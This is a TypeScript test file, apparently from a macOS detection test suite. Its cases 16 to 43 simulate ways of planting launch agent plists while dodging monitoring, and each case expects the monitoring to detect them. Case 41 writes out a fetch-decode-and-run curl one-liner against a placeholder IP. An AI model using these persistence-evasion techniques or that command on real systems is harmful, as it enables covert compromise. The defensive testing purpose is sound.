import { spawnSync } from 'node:child_process';
import { rmSync, symlinkSync } from 'node:fs';
import type { Attacker } from './attacker.js';
import { fileDocument, loadDocument } from './documents.js';
import type { Evasion } from './evasion.js';

const second = (attacker: Attacker) => `/private/tmp/${attacker.label}-second`;
const secondMark = (attacker: Attacker) => [`${attacker.label}-second`];

function sample(attacker: Attacker): void {
  attacker.write(attacker.plist);
}

/** Whether the exchange of the folder as a whole was told, besides what is in it. */
const folderTold: NonNullable<Evasion['found']> = ({ alerts }, { agents }) =>
  alerts.some(
    ({ doc, rule_name }) => doc.file?.path === agents && rule_name.startsWith('Launch folder replaced'),
  );

/** What gets around the sight of the file: numbers 16 to 43. */
export const files: readonly Evasion[] = [
  {
    number: 16,
    name: 'a launch daemon',
    play: (attacker) => attacker.write(`/Library/LaunchDaemons/${attacker.label}.plist`),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 17,
    name: "LaunchAngels, and Apple's own folder of daemons",
    play(attacker) {
      attacker.write(`/Library/Apple/System/Library/LaunchDaemons/${attacker.label}.apple.plist`);
      attacker.write(`/System/Library/LaunchAngels/${attacker.label}.angel.plist`);
    },
    marks: ({ label }) => [`${label}.apple`, `${label}.angel`],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 18,
    name: "root's home, and a home outside of /Users",
    before(attacker) {
      const record = `<plist version="1.0"><dict><key>name</key><array><string>u18</string></array>
<key>home</key><array><string>/private/var/${attacker.label}</string></array></dict></plist>`;
      attacker.write('/private/var/db/dslocal/nodes/Default/users/u18.plist', record);
    },
    play(attacker) {
      attacker.write(`/private/var/root/Library/LaunchAgents/${attacker.label}.root.plist`);
      attacker.write(`/private/var/${attacker.label}/Library/LaunchAgents/${attacker.label}.home.plist`);
    },
    marks: ({ label }) => [`${label}.root`, `${label}.home`],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 19,
    name: 'through /System/Volumes/Data',
    before(attacker) {
      attacker.mkdir('/System/Volumes');
      symlinkSync('../..', attacker.host('/System/Volumes/Data'));
    },
    play: (attacker) => attacker.write(`/System/Volumes/Data/Library/LaunchAgents/${attacker.label}.plist`),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 20,
    name: 'the folder in another case',
    play: (attacker) => attacker.write(`/library/launchagents/${attacker.label}.plist`),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 21,
    name: 'a name composed in another way',
    async play(attacker) {
      const name = (form: 'NFC' | 'NFD') =>
        `${attacker.agents}/${attacker.label}.caf\u00e9.plist`.normalize(form);
      attacker.write(name('NFD'), attacker.list([], `${attacker.label}.caf\u00e9`));
      await attacker.launchctl(['load', attacker.host(name('NFC'))]);
    },
    found: ({ alerts }, attacker) =>
      alerts.some(
        ({ doc }) =>
          doc.file?.path?.startsWith(attacker.agents) && JSON.stringify(doc).includes('"named":true'),
      ),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 22,
    name: 'a finished file is renamed in',
    play(attacker) {
      attacker.write(`/private/tmp/${attacker.label}.part`);
      attacker.rename(`/private/tmp/${attacker.label}.part`, attacker.plist);
    },
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 23,
    name: 'a hard link, edited through its other name',
    before(attacker) {
      attacker.write(`/private/tmp/${attacker.label}.other`);
      attacker.hardLink(`/private/tmp/${attacker.label}.other`, attacker.plist);
    },
    play: (attacker) =>
      attacker.write(`/private/tmp/${attacker.label}.other`, attacker.list([second(attacker)])),
    marks: secondMark,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 24,
    name: 'clonefile',
    play(attacker) {
      attacker.write(`/private/tmp/${attacker.label}.source`);
      attacker.clone(`/private/tmp/${attacker.label}.source`, attacker.plist);
    },
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 25,
    name: 'a symbolic link, whose target is edited',
    before(attacker) {
      attacker.write(`/private/tmp/${attacker.label}.target`);
      attacker.symlink(`/private/tmp/${attacker.label}.target`, attacker.plist);
    },
    play: (attacker) =>
      attacker.write(`/private/tmp/${attacker.label}.target`, attacker.list([second(attacker)])),
    marks: secondMark,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 26,
    name: 'the folder is replaced by a symbolic link',
    play(attacker) {
      const elsewhere = `/private/tmp/${attacker.label}`;
      attacker.write(`${elsewhere}/${attacker.label}.plist`);
      attacker.remove(attacker.agents);
      attacker.symlink(elsewhere, attacker.agents);
    },
    marks: ({ plist }) => [plist],
    found: folderTold,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 27,
    name: 'the folder did not exist',
    before: (attacker) => attacker.remove(`${attacker.home}/Library`),
    play: sample,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 28,
    name: 'the folder is deleted and made again',
    play(attacker) {
      attacker.remove(attacker.agents);
      sample(attacker);
    },
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 29,
    name: 'the folder is swapped by two renames',
    play(attacker) {
      const staged = `${attacker.home}/Library/Staged`;
      attacker.write(`${staged}/${attacker.label}.inside.plist`);
      attacker.rename(attacker.agents, `${attacker.home}/Library/Old`);
      attacker.rename(staged, attacker.agents);
      attacker.write(`${attacker.agents}/${attacker.label}.later.plist`);
    },
    marks: ({ label }) => [`${label}.inside`, `${label}.later`],
    found: folderTold,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 30,
    name: 'a volume is mounted over the folder',
    play(attacker) {
      const folder = attacker.host(attacker.agents);
      const mounted = spawnSync('mount', ['-t', 'tmpfs', 'none', folder]).status === 0;
      attacker.toldMount('/dev/disk9s1', attacker.agents);
      // Without the right to mount: what a volume would show there appears all the same.
      if (!mounted) rmSync(folder, { recursive: true });
      sample(attacker);
    },
    after: (attacker) => spawnSync('umount', [attacker.host(attacker.agents)]),
    found: folderTold,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 31,
    name: 'rewritten, and its time set back',
    before(attacker) {
      sample(attacker);
      attacker.backdate(attacker.plist, 1_700_000_000);
    },
    play(attacker) {
      attacker.write(attacker.plist, attacker.list([second(attacker)]));
      attacker.backdate(attacker.plist, 1_700_000_000);
    },
    marks: secondMark,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 32,
    name: 'written, loaded and deleted within milliseconds',
    async play(attacker) {
      sample(attacker);
      await attacker.launchctl(['load', attacker.host(attacker.plist)], { lifetimeMs: 2 });
      attacker.remove(attacker.plist);
    },
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 33,
    name: 'staged so that launchd refuses it; later only its mode changes',
    before(attacker) {
      sample(attacker);
      attacker.chmod(attacker.plist, 0o666);
    },
    play: (attacker) => attacker.chmod(attacker.plist, 0o644),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 34,
    name: 'written by cfprefsd for "defaults write"',
    play(attacker) {
      const cfprefsd = { image: '/usr/sbin/cfprefsd', signingId: 'com.apple.cfprefsd' };
      attacker.write(`${attacker.plist}.a1b2c3`, attacker.list(), cfprefsd);
      attacker.rename(`${attacker.plist}.a1b2c3`, attacker.plist);
    },
    marks: ({ plist }) => [plist],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 35,
    name: "edited by Apple's own tools (PlistBuddy, plutil, sed -i)",
    before: sample,
    play: (attacker) =>
      attacker.write(attacker.plist, attacker.list([second(attacker)]), {
        image: '/usr/libexec/PlistBuddy',
        signingId: 'com.apple.PlistBuddy',
      }),
    marks: secondMark,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 36,
    name: 'a hidden name, no .plist, a folder below',
    async play(attacker) {
      attacker.write(`${attacker.agents}/.${attacker.label}.hidden.plist`);
      // launchd takes these only when it is told to.
      for (const name of [`${attacker.label}.data`, `below/${attacker.label}.below.plist`]) {
        attacker.write(`${attacker.agents}/${name}`);
        await attacker.launchctl(['load', attacker.host(`${attacker.agents}/${name}`)]);
      }
    },
    marks: ({ label }) => [`${label}.hidden`, `${label}.data`, `${label}.below`],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 37,
    name: 'a decoy is written after the real one',
    async play(attacker) {
      sample(attacker);
      attacker.write(
        `${attacker.agents}/com.google.keystone.agent.plist`,
        attacker.list([], 'com.google.keystone.agent'),
      );
      await attacker.launchctl(['load', attacker.host(attacker.plist)]);
    },
    marks: ({ plist }) => [plist],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 38,
    name: 'a decoy 59 seconds before',
    capture: (tier, label) => [
      fileDocument(tier, 0, '/Users/u38/Library/LaunchAgents/com.google.keystone.agent.plist'),
      fileDocument(tier, 59, `/Users/u38/Library/LaunchAgents/${label}.plist`),
      loadDocument(tier, 100, `/Users/u38/Library/LaunchAgents/${label}.plist`),
    ],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 39,
    name: 'a flood of lists, to use up all alerts',
    async play(attacker) {
      for (let index = 0; index < 1_000; index++)
        attacker.write(`${attacker.agents}/flood.${index}.plist`, attacker.list([], `flood.${index}`));
      sample(attacker);
      for (let index = 1_000; index < 2_000; index++)
        attacker.write(`${attacker.agents}/flood.${index}.plist`, attacker.list([], `flood.${index}`));
      await attacker.launchctl(['load', attacker.host(attacker.plist)], { lifetimeMs: 500 });
    },
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 40,
    name: 'under the name of an excepted product',
    async play(attacker) {
      const list = `${attacker.agents}/com.google.keystone.agent.plist`;
      attacker.write(list, attacker.list([second(attacker)], 'com.google.keystone.agent'));
      await attacker.launchctl(['load', attacker.host(list)]);
    },
    marks: ({ agents }) => [agents],
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 41,
    name: 'a one-liner instead of a program',
    play: (attacker) =>
      attacker.write(
        attacker.plist,
        attacker.list(['/bin/sh', '-c', 'curl -s http://198.51.100.7/x | base64 -d | sh']),
      ),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 42,
    name: 'started by a watched path or a socket, without RunAtLoad',
    play: (attacker) =>
      attacker.write(
        attacker.plist,
        attacker
          .list([second(attacker)])
          .replace(
            '<key>RunAtLoad</key>\n  <true/>',
            '<key>WatchPaths</key><array><string>/private/tmp</string></array>',
          ),
      ),
    expected: { scan: 'detected', eslogger: 'detected' },
  },
  {
    number: 43,
    name: 'a list that is loaded already is changed in place',
    before(attacker) {
      sample(attacker);
      attacker.loadedUnseen('gui/0', attacker.label, attacker.plist);
    },
    play: (attacker) => attacker.write(attacker.plist, attacker.list([second(attacker)])),
    marks: secondMark,
    expected: { scan: 'detected', eslogger: 'detected' },
  },
];
